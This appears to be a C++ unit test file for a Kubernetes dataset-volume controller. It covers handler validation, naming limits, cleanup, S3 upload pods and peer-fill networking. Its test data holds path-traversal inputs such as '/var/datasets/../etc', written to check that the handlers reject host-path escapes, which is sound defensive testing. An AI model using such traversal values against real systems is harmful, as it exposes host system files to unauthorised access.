        REQUIRE(d.persistent_volumes.size() == 1);
        CHECK(d.persistent_volumes[0].spec.nfs->server == payload);
        CHECK(d.persistent_volumes[0].spec.nfs->path == "/exports/" + payload);

        vc.sourceType = "Local";
        vc.accessMode = "ReadWriteOnce";
        vc.options = {{"path", "/var/datasets/x" + payload}};
        d = LocalHandler{}.desired(ctx, manager(), vc);
        CHECK(d.pods.empty());
        if (payload.find('/') == std::string::npos) {
            REQUIRE_FALSE(d.persistent_volumes.empty());
            CHECK(d.persistent_volumes[0].spec.local->path == "/var/datasets/x" + payload);
        }
    }
}

TEST_CASE("dataPath /, /etc and /var/datasets/../etc are rejected by every handler that writes or exposes host paths") {
    S3Handler s3;
    PachydermHandler pach;
    LocalHandler local;
    auto ctx = context();
    auto key = naming::node_label_key("default", "vm1", "vol1");
    for (std::string bad : {"/", "/etc", "/var/datasets/../etc", "/var/datasets/a/../../../etc", "/var//datasets/../../etc/"}) {
        CAPTURE(bad);
        std::string message = "dataPath \"" + bad + "\" is not under an allowed data root (/var/datasets)";
        auto vc = s3_volume();
        vc.options["dataPath"] = bad;
        CHECK(s3.validate(ctx, manager(), vc) == message);
        CHECK(s3.desired(ctx, manager(), vc).pods.empty());
        auto st = s3.status(ctx, manager(), vc, {});
        CHECK(st.phase == VolumePhase::Failed);
        CHECK(st.status.message == message);
        // Cleanup of such a volume never runs a delete on any node, even a labelled one.
        auto labelled = ctx;
        labelled.nodes = [key] { return std::vector<api::Node>{node("node-0", {{key, "true"}})}; };
        auto plan = s3.cleanup_objects(labelled, manager(), vc, {});
        CHECK(plan.pods.empty());
        CHECK(plan.done);
        CHECK(plan.node_labels_to_remove == std::vector<NodeLabel>{{"node-0", key, "true"}});

        auto pv = pachyderm_volume();
        pv.options["dataPath"] = bad;
        CHECK(pach.validate(ctx, manager(), pv) == message);
        CHECK(pach.desired(ctx, manager(), pv).pods.empty());
        CHECK(pach.status(ctx, manager(), pv, {}).phase == VolumePhase::Failed);
        CHECK(pach.cleanup_objects(labelled, manager(), pv, {}).pods.empty());

        auto lv = nfs_volume();
        lv.sourceType = "Local";
        lv.accessMode = "ReadWriteOnce";
        lv.options = {{"path", bad}};
        CHECK(local.validate(ctx, manager(), lv) == message);
        CHECK(local.desired(ctx, manager(), lv).persistent_volumes.empty());
        CHECK(local.status(ctx, manager(), lv, {}).phase == VolumePhase::Failed);
    }
    // Other roots, when the operator allows them; still never "/" itself.
    auto wide = ctx;
    wide.options.allowed_data_roots = {"/mnt/data", "/"};
    auto vc = s3_volume();
    vc.options["dataPath"] = "/mnt/data/team";
    CHECK(s3.validate(wide, manager(), vc) == std::nullopt);
    vc.options["dataPath"] = "/etc";
    CHECK(s3.validate(wide, manager(), vc).has_value());
}

TEST_CASE("names of 253 characters give valid object names, labels and node label keys in every handler") {
    std::string long_name(253, 'n');
    std::string long_ns(63, 's');
    std::string long_id(253, 'I');
    auto vm = manager(long_name, long_ns);
    auto ctx = context();
    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
        api::Secret s;
        s.data = {{"awsAccessKeyID", "QQ=="}, {"awsSecretAccessKey", "Qg=="}};
        return s;
    };
    auto check_meta = [](const api::ObjectMeta& m) {
        CAPTURE(m.name);
        CHECK(valid_dns_label(m.name));
        for (const auto& [k, v] : m.labels) {
            CAPTURE(k);
            CHECK(valid_label_name(k.substr(k.find('/') == std::string::npos ? 0 : k.find('/') + 1)));
            CHECK((v.empty() || valid_label_name(v)));
        }
    };
    auto s3 = s3_volume(2);
    s3.id = long_id;
    auto pach = pachyderm_volume();
    pach.id = long_id + "-p";
    auto nfs = nfs_volume();
    nfs.id = long_id + "-n";
    auto local = nfs_volume();
    local.id = long_id + "-l";
    local.sourceType = "Local";
    local.accessMode = "ReadWriteOnce";
    local.options = {{"path", "/var/datasets/x"}};
    auto registry = HandlerRegistry::with_builtin_handlers();
    std::vector<std::string> pod_names;
    for (const auto& vc : {s3, pach, nfs, local}) {
        CAPTURE(vc.sourceType);
        auto h = registry.find(vc.sourceType).handler;
        REQUIRE(h);
        REQUIRE(h->validate(ctx, vm, vc) == std::nullopt);
        auto d = h->desired(ctx, vm, vc);
        CHECK((d.pods.size() + d.persistent_volumes.size() + d.claims.size()) > 0);
        for (const auto& p : d.pods) {
            check_meta(p.metadata);
            pod_names.push_back(p.metadata.name);
        }
        for (const auto& pv : d.persistent_volumes) check_meta(pv.metadata);
        for (const auto& c : d.claims) check_meta(c.metadata);
        // Status and cleanup of a downloaded volume on a node with a 253-character name.
        std::string long_node(253, 'k');
        ObservedObjects observed;
        for (const auto& p : d.pods) observed.pods.push_back(with_phase(p, "Succeeded", long_node));
        auto out = h->status(ctx, vm, vc, observed);
        for (const auto& l : out.node_labels) {
            CHECK(l.key.size() <= std::string("vck.intelai.org/").size() + 63);
            CHECK(valid_label_name(l.key.substr(l.key.find('/') + 1)));
        }
        if (out.status.nodeAffinity) {
            const auto& key = out.status.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution
                                  ->nodeSelectorTerms.at(0).matchExpressions.at(0).key;
            CHECK(valid_label_name(key.substr(key.find('/') + 1)));
        }
        CHECK(h->cleanup_objects(ctx, vm, vc, {}).done);
        auto node_key = naming::node_label_key(vm.metadata.namespace_, vm.metadata.name, vc.id);
        auto labelled = ctx;
        labelled.nodes = [node_key, long_node] { return std::vector<api::Node>{node(long_node, {{node_key, "true"}})}; };
        for (const auto& p : h->cleanup_objects(labelled, vm, vc, {}).pods) {
            check_meta(p.metadata);
            CHECK(p.spec.nodeName == long_node);
        }
    }
    std::sort(pod_names.begin(), pod_names.end());
    CHECK(std::adjacent_find(pod_names.begin(), pod_names.end()) == pod_names.end());
}

TEST_CASE("cleanup does not wait for nodes that left the cluster") {
    S3Handler h;
    auto ctx = context(2);  // node-0, node-1
    auto vm = manager();
    auto vc = s3_volume(1);
    auto gone = naming::cleanup_pod_name(vm.metadata.uid, vc.id, "node-9");
    api::Pod stuck;
    stuck.metadata.name = gone;
    stuck.spec.nodeName = "node-9";
    auto plan = h.cleanup_objects(ctx, vm, vc, {{with_phase(stuck, "Pending", "node-9")}, {}, {}});
    CHECK(plan.pods.empty());
    CHECK(plan.pods_to_delete == std::vector<std::string>{gone});
    CHECK(h.cleanup_objects(ctx, vm, vc, {}).done);
    // Without a node list, the handler cannot tell, and keeps the node.
    ctx.nodes = nullptr;
    CHECK_FALSE(h.cleanup_objects(ctx, vm, vc, {{with_phase(stuck, "Pending", "node-9")}, {}, {}}).done);
}

namespace {

api::VolumeConfig output_volume(int replicas = 2) {
    auto vc = s3_volume(replicas);
    vc.id = "results";
    vc.sourceType = "S3-Output";
    vc.options["sourceURL"] = "s3://bucket/runs/42/";
    vc.options["endpointURL"] = "http://minio:9000";
    return vc;
}

} // namespace

TEST_CASE("S3-Output is an output handler; it takes S3's options and refuses resync and distributionStrategy") {
    auto registry = HandlerRegistry::with_builtin_handlers();
    auto found = registry.find("S3-Output");
    REQUIRE(found.handler);
    CHECK(found.handler->copies());
    CHECK(found.handler->uploads());
    CHECK_FALSE(registry.find("S3").handler->uploads());
    CHECK_FALSE(found.handler->validate(output_volume()));
    auto vc = output_volume();
    vc.options.erase("sourceURL");
    CHECK(found.handler->validate(vc) == "sourceURL has to be set in options");
    vc = output_volume(1);
    vc.options["resync"] = "true";
    CHECK(found.handler->validate(vc) == "resync cannot be set on an S3-Output volume");
    vc = output_volume(2);
    vc.options["distributionStrategy"] = R"({"*": 2})";
    CHECK(found.handler->validate(vc) == "distributionStrategy cannot be set on an S3-Output volume");
}

TEST_CASE("S3-Output's copy pod only prepares the directory; its upload pod sends it to <sourceURL>/<replica>/ on the copy's node") {
    auto ctx = context();
    auto vm = manager();
    auto vc = output_volume();
    S3OutputHandler h;
    CopyTarget t{1, "node-2", naming::copy_directory("/var/datasets", vm.metadata.uid, vc.id, "cfg"), "cfg", "pod-u", {}};
    auto prepare = h.copy_pod(ctx, vm, vc, t);
    const auto& pc = prepare.spec.containers.at(0);
    // One scan of the new, empty directory: no object is written, the copy is Ready at once.
    CHECK(pc.args.at(0) == "sync-back");
    CHECK(std::find(pc.args.begin(), pc.args.end(), "--once") != pc.args.end());

    auto up = h.upload_pod(ctx, vm, vc, t);
    CHECK(up.metadata.name == "pod-u");
    CHECK(up.metadata.annotations.at(std::string(copy_role_annotation)) == "upload");
    CHECK(up.metadata.annotations.at(std::string(copy_path_annotation)) == t.path);
    CHECK_FALSE(up.spec.activeDeadlineSeconds.has_value());  // an upload takes what it takes
    const auto& c = up.spec.containers.at(0);
    CHECK(c.name == "upload");
    CHECK(c.command == std::vector<std::string>{"vck-fetch"});
    CHECK(c.args == std::vector<std::string>{"sync-back", copy_destination(t), "s3://bucket/runs/42/1/", "--once",
                                             "--endpoint=http://minio:9000", "--termination-log=/dev/termination-log"});
    REQUIRE(c.env.size() == 2);
    CHECK(c.env[0].valueFrom->secretKeyRef->name == "aws-creds");
    CHECK(c.env[1].valueFrom->secretKeyRef->key == "awsSecretAccessKey");
    const auto& terms = up.spec.affinity->nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution->nodeSelectorTerms;
    bool pinned = false;
    for (const auto& term : terms)
        for (const auto& f : term.matchFields) pinned |= f.key == "metadata.name" && f.values == std::vector<std::string>{"node-2"};
    CHECK(pinned);
    CHECK(S3OutputSource::replica_url(vc, 0) == "s3://bucket/runs/42/0/");
    vc.options["sourceURL"] = "s3://bucket";
    CHECK(S3OutputSource::replica_url(vc, 3) == "s3://bucket/3/");
}

TEST_CASE("refreshInterval: a Go duration above zero, not with resync, and left out of the config digest (setting it moves no data)") {
    S3Handler h;
    auto vc = s3_volume(2);
    const auto digest = naming::source_config_digest(vc);
    vc.options["refreshInterval"] = "30m";
    CHECK_FALSE(h.validate(vc));
    CHECK(naming::source_config_digest(vc) == digest);
    vc.options["sourceURL"] = "s3://data/other/";
    CHECK(naming::source_config_digest(vc) != digest);  // the source itself still counts
    for (const char* bad : {"0", "-1m", "soon", ""}) {
        vc.options["refreshInterval"] = bad;
        CHECK(h.validate(vc) == "refreshInterval has to be a Go duration greater than 0, e.g. 1h");
    }
    auto rs = s3_volume(1);
    rs.options["resync"] = "true";
    rs.options["refreshInterval"] = "1h";
    CHECK(h.validate(rs) == "refreshInterval cannot be set with resync");
}

TEST_CASE("peer fill: an S3 volume's replicas form groups by subset, unless one replica, options.peerFill false or --peer-fill=false") {
    auto ctx = context();
    S3Handler h;
    auto vc = s3_volume(3);
    CHECK(h.copy_layout(ctx, vc)->peer_groups == std::vector<std::string>{"", "", ""});
    vc.options["distributionStrategy"] = R"({"*.a": 2, "*.b": 1})";
    CHECK(h.copy_layout(ctx, vc)->peer_groups == std::vector<std::string>{"*.a", "*.a", "*.b"});
    CHECK(h.copy_layout(ctx, s3_volume(1))->peer_groups.empty());
    vc.options["peerFill"] = "false";
    CHECK(h.copy_layout(ctx, vc)->peer_groups.empty());
    vc.options["peerFill"] = "sometimes";
    CHECK(h.validate(vc) == "peerFill has to be true or false");
    auto off = context();
    off.options.peer_fill = false;
    CHECK(h.copy_layout(off, s3_volume(3))->peer_groups.empty());
}

namespace {

/// Replica 0's copy on node-1 as the planner gives it with peer fill on: it serves its peers,
/// holding the volume's Secret.
CopyTarget serving_target(const api::VolumeManager& vm, const api::VolumeConfig& vc) {
    CopyTarget t{0, "node-1", naming::copy_directory("/var/datasets", vm.metadata.uid, vc.id, "cfg"), "cfg", "pod-0", {}};
    t.peer.serve = true;
    t.peer.secret = peer_secret_name(vm.metadata.uid, vc.id);
    return t;
}

} // namespace

TEST_CASE("peer fill: a serving download pod binds its pod IP, opens the ready port for its probe, and mounts the volume's Secret read only") {
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(3);
    S3Handler h;
    auto t = serving_target(vm, vc);
    auto pod = h.copy_pod(ctx, vm, vc, t);
    const auto& c = pod.spec.containers.at(0);
    auto has = [&](const std::string& a) { return std::find(c.args.begin(), c.args.end(), a) != c.args.end(); };
    CHECK(has("--serve=$(POD_IP):7443"));
    CHECK(has("--ready-port=7444"));
    CHECK(has("--peer-cert=/vck/peer/tls.crt"));
    CHECK(has("--peer-key=/vck/peer/tls.key"));
    bool pod_ip = std::any_of(c.env.begin(), c.env.end(), [](const api::EnvVar& e) {
        return e.name == "POD_IP" && e.valueFrom &&
               e.valueFrom->unknown.at("fieldRef").as_object().at("fieldPath").as_string() == "status.podIP";
    });
    CHECK(pod_ip);
    CHECK(c.unknown.at("readinessProbe").at("tcpSocket").at("port").to_number<int>() == 7444);
    bool mounted = std::any_of(c.volumeMounts.begin(), c.volumeMounts.end(), [](const api::VolumeMount& m) {
        return m.name == "vck-peer" && m.mountPath == "/vck/peer" && m.readOnly == true;
    });
    CHECK(mounted);
    bool secret = std::any_of(pod.spec.volumes.begin(), pod.spec.volumes.end(), [&](const api::Volume& v) {
        return v.name == "vck-peer" && v.unknown.at("secret").at("secretName").as_string() == t.peer.secret;
    });
    CHECK(secret);
    CHECK(pod.metadata.annotations.at(std::string(peer_serves_annotation)) == "true");
    // The prepare init container does not fetch: it gets none of this.
    for (const auto& ic : pod.spec.initContainers) CHECK(std::find(ic.args.begin(), ic.args.end(), "--ready-port=7444") == ic.args.end());

    // A puller: its peers in order, no server, no probe.
    CopyTarget p{1, "node-2", t.path, "cfg", "pod-1", {}};
    p.peer.peers = {"https://10.0.0.2:7443", "https://10.0.0.1:7443"};
    p.peer.secret = t.peer.secret;
    auto puller = h.copy_pod(ctx, vm, vc, p);
    const auto& pc = puller.spec.containers.at(0);
    auto at = [&](const std::string& a) { return std::find(pc.args.begin(), pc.args.end(), a) - pc.args.begin(); };
    CHECK(at("--peer=https://10.0.0.2:7443") < at("--peer=https://10.0.0.1:7443"));
    CHECK(at("--peer=https://10.0.0.1:7443") < static_cast<std::ptrdiff_t>(pc.args.size()));
    CHECK_FALSE(pc.unknown.contains("readinessProbe"));
    CHECK_FALSE(puller.metadata.annotations.contains(std::string(peer_serves_annotation)));

    // No plan, no change: the pod of a volume without peer fill is as before.
    CopyTarget alone{0, "node-1", t.path, "cfg", "pod-0", {}};
    auto plain = h.copy_pod(ctx, vm, vc, alone);
    CHECK(plain.spec.volumes.size() == 1);
    CHECK(plain.spec.containers.at(0).env.size() == 2);
}

TEST_CASE("a download pod given an older copy on its node fetches with --reuse-from that copy as the pod sees it") {
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(1);
    S3Handler h;
    CopyTarget t{0, "node-1", naming::copy_directory("/var/datasets", vm.metadata.uid, vc.id, "new"), "new", "pod-0", {}};
    t.reuse_from = naming::copy_directory("/var/datasets", vm.metadata.uid, vc.id, "old");
    auto pod = h.copy_pod(ctx, vm, vc, t);
    const auto& args = pod.spec.containers.at(0).args;
    const std::string expected = "--reuse-from=/vck/datasets" + t.reuse_from.substr(t.reuse_from.rfind('/'));
    CHECK(std::count(args.begin(), args.end(), expected) == 1);
    for (const auto& ic : pod.spec.initContainers)  // prepare does not fetch
        CHECK(std::none_of(ic.args.begin(), ic.args.end(), [](const std::string& a) { return a.starts_with("--reuse-from"); }));

    // An older copy under another data path is not in the pod's mount: nothing to reuse.
    t.reuse_from = naming::copy_directory("/mnt/elsewhere", vm.metadata.uid, vc.id, "old");
    auto other = h.copy_pod(ctx, vm, vc, t);
    for (const auto& a : other.spec.containers.at(0).args) CHECK_FALSE(a.starts_with("--reuse-from"));
}

// deploy/network-policy/peer_fill.yaml is the overlay docs/ops.md tells a cluster that denies
// pod-to-pod ingress to apply: it has to select the download pods vck makes and admit, from
// them only, the port their servers listen on.
TEST_CASE("peer fill: deploy/'s NetworkPolicy admits the download pods' peer port between the pods vck makes, and nothing else") {
    auto np = vck_handlers_test::load_yaml(vck_handlers_test::source_root() / "deploy/network-policy/peer_fill.yaml");
    CHECK(np.at("apiVersion") == "networking.k8s.io/v1");
    CHECK(np.at("kind") == "NetworkPolicy");
    const auto& spec = np.at("spec").as_object();
    CHECK(spec.at("policyTypes") == boost::json::array{"Ingress"});
    // A selector of "the label exists", as the policy writes it.
    auto selects_vck_pods = [](const boost::json::value& selector) {
        const auto& exprs = selector.at("matchExpressions").as_array();
        return exprs.size() == 1 && exprs[0].at("key").as_string() == naming::volume_label &&
               exprs[0].at("operator") == "Exists" && !selector.as_object().contains("matchLabels");
    };
    CHECK(selects_vck_pods(spec.at("podSelector")));
    const auto& ingress = spec.at("ingress").as_array();
    REQUIRE(ingress.size() == 1);
    const auto& from = ingress[0].at("from").as_array();
    REQUIRE(from.size() == 1);
    CHECK(selects_vck_pods(from[0].at("podSelector")));
    CHECK_FALSE(from[0].as_object().contains("namespaceSelector"));  // this namespace's pods only
    CHECK(ingress[0].at("ports") == boost::json::array{boost::json::object{{"protocol", "TCP"}, {"port", peer_port}}});

    // The pods it is about: a serving download pod carries the label and listens on that port.
    auto vm = manager();
    auto vc = s3_volume(2);
    auto pod = S3Handler{}.copy_pod(context(), vm, vc, serving_target(vm, vc));
    CHECK(pod.metadata.labels.contains(std::string(naming::volume_label)));
    const auto& ports = pod.spec.containers.at(0).unknown.at("ports").as_array();
    CHECK(std::any_of(ports.begin(), ports.end(), [](const boost::json::value& p) {
        return p.at("containerPort").to_number<int>() == peer_port && p.at("protocol") == "TCP";
    }));
}

TEST_CASE("peer fill: the volume's Secret holds a self-signed certificate named vck-peer and its key") {
    api::ObjectMeta meta;
    meta.name = "vck-peer-x";
    auto s = make_peer_secret(meta);
    CHECK(s.type == "kubernetes.io/tls");
    auto crt = vck::client::base64_decode(s.data.at("tls.crt"));
    auto key = vck::client::base64_decode(s.data.at("tls.key"));
    REQUIRE(crt);
    REQUIRE(key);
    CHECK(vck::webhook::key_matches(*crt, *key));
    CHECK(vck::webhook::certificate_info(*crt).is_ca);  // its own trust anchor (tests/e2e/peer_fill_e2e_test.sh: pullers accept it)
    // A new one each time: a volume's certificate is its own.
    CHECK(make_peer_secret(meta).data.at("tls.crt") != s.data.at("tls.crt"));
}
